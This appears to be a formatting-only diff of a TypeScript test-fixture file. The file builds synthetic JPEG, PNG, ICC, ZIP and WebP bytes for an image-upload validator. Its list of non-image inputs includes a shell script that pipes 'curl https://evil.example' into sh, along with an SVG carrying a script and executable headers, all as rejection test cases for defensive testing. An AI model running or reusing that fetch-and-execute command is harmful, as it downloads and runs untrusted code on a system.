@@ -96,7 +96,8 @@ export const XMP_PACKET =
 export const exifSegment = () => jpegSegment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), exifTiff()]));
 export const xmpSegment = () => jpegSegment(0xe1, `http://ns.adobe.com/xap/1.0/\0${XMP_PACKET}`);
 /** An ICC profile's first bytes: size, CMM, version, class, colour space, then its 'acsp' signature at 36. */
-export const iccProfile = () => Buffer.concat([Buffer.from('\0\0\x02\x30lcms\x04\x30\0\0mntrRGB XYZ ', 'latin1'), Buffer.alloc(12), Buffer.from('acspAPPL')]);
+export const iccProfile = () =>
+  Buffer.concat([Buffer.from('\0\0\x02\x30lcms\x04\x30\0\0mntrRGB XYZ ', 'latin1'), Buffer.alloc(12), Buffer.from('acspAPPL')]);
 export const iccSegment = () => jpegSegment(0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), iccProfile()]));
 export const iptcSegment = () => jpegSegment(0xed, 'Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x10\x1c\x02\x78\0\x0bIPTC-caption');
 export const commentSegment = (text: string) => jpegSegment(0xfe, text);
@@ -106,7 +107,7 @@ export const adobeSegment = () => jpegSegment(0xee, Buffer.from('Adobe\0\x64\0\0
 /** The JPEG grown to exactly `total` bytes by a chain of comment segments (each at most 65,537 bytes). */
 export function withCommentsUpTo(jpeg: Buffer, total: number): Buffer {
   const comments: Buffer[] = [];
-  for (let missing = total - jpeg.length; missing > 0; ) {
+  for (let missing = total - jpeg.length; missing > 0;) {
     const size = missing <= 65_537 ? missing : Math.min(65_537, missing - 4);
     if (size < 4) throw new Error('No room for a comment segment');
     comments.push(commentSegment(Buffer.alloc(size - 4, 'x').toString()));
@@ -145,7 +146,13 @@ export function png({ width = 16, height = 12, palette = false } = {}): Buffer {
   }
   const colours = Buffer.from(Array.from({ length: 16 }, (_, at) => [at * 16, 255 - at * 16, at < 8 ? 200 : 40]).flat());
   const paletteChunks = palette ? [pngChunk('PLTE', colours), pngChunk('tRNS', Buffer.from([128]))] : [];
-  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', header), ...paletteChunks, pngChunk('IDAT', deflateSync(rows)), pngChunk('IEND', '')]);
+  return Buffer.concat([
+    PNG_SIGNATURE,
+    pngChunk('IHDR', header),
+    ...paletteChunks,
+    pngChunk('IDAT', deflateSync(rows)),
+    pngChunk('IEND', ''),
+  ]);
 }
 
 /** One photo of every kind the identity form takes, by name: each bare, without metadata or anything appended. */
@@ -163,7 +170,8 @@ export const everyPhotoKind = (): [string, Buffer][] => [
 export const withChunks = (image: Buffer, ...chunks: Buffer[]) => Buffer.concat([image.subarray(0, 33), ...chunks, image.subarray(33)]);
 
 export const textChunk = (keyword: string, text: string) => pngChunk('tEXt', `${keyword}\0${text}`);
-export const zTextChunk = (keyword: string, text: string) => pngChunk('zTXt', Buffer.concat([Buffer.from(`${keyword}\0\0`), deflateSync(text)]));
+export const zTextChunk = (keyword: string, text: string) =>
+  pngChunk('zTXt', Buffer.concat([Buffer.from(`${keyword}\0\0`), deflateSync(text)]));
 export const iTextChunk = (keyword: string, text: string) => pngChunk('iTXt', `${keyword}\0\0\0en\0\0${text}`);
 export const timeChunk = () => pngChunk('tIME', Buffer.from([0x07, 0xe9, 3, 14, 9, 26, 53]));
 export const iccpChunk = () => pngChunk('iCCP', Buffer.concat([Buffer.from('Phone P3\0\0'), deflateSync(iccProfile())]));
@@ -208,7 +216,12 @@ export function zipArchive(name: string, content: string): Buffer {
   fields.writeUInt32LE(data.length, 8);
   fields.writeUInt16LE(name.length, 12);
   const local = Buffer.concat([Buffer.from('PK\x03\x04\x14\0\0\0\0\0\0\0\0\0', 'latin1'), fields, Buffer.from(name), data]);
-  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\0\0', 'latin1'), fields, Buffer.alloc(14), Buffer.from(name)]);
+  const central = Buffer.concat([
+    Buffer.from('PK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\0\0', 'latin1'),
+    fields,
+    Buffer.alloc(14),
+    Buffer.from(name),
+  ]);
   const end = Buffer.alloc(22);
   end.write('PK\x05\x06', 0, 'latin1');
   end.writeUInt16LE(1, 8);
@@ -228,12 +241,12 @@ export const NOT_IMAGES: Record<string, Buffer> = {
   'ELF executable': Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'), Buffer.alloc(56)]),
   'Windows PE': Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(52), Buffer.from('\x40\0\0\0PE\0\0', 'latin1')]),
   'shell script': Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
-  'PDF': Buffer.from(PDF_DOCUMENT),
-  'GIF': Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;', 'latin1'),
+  PDF: Buffer.from(PDF_DOCUMENT),
+  GIF: Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;', 'latin1'),
   'SVG with a script': Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
   'HTML page': Buffer.from(HTML_PAGE),
   'ZIP archive': zipArchive('a.txt', 'hello'),
-  'BMP': Buffer.concat([Buffer.from('BM', 'latin1'), Buffer.alloc(60)]),
+  BMP: Buffer.concat([Buffer.from('BM', 'latin1'), Buffer.alloc(60)]),
   'RIFF that is not WebP (AVI)': Buffer.from('RIFF\x20\0\0\0AVI LIST\x14\0\0\0hdrlavih\x08\0\0\0\0\0\0\0\0\0\0\0', 'latin1'),
   'PNG signature cut short': PNG_SIGNATURE.subarray(0, 7),
   'JPEG SOI alone': Buffer.from([0xff, 0xd8]),
@@ -243,7 +256,7 @@ export const NOT_IMAGES: Record<string, Buffer> = {
 /** A RIFF's or an ANMF's chunks, each with its header and pad byte, from `from` on (12: after RIFF, size, WEBP). */
 export function webpChunks(bytes: Buffer, from = 12): Buffer[] {
   const chunks: Buffer[] = [];
-  for (let at = from; at + 8 <= bytes.length; ) {
+  for (let at = from; at + 8 <= bytes.length;) {
     const size = bytes.readUInt32LE(at + 4);
     const end = at + 8 + size + (size % 2);
     chunks.push(bytes.subarray(at, end));
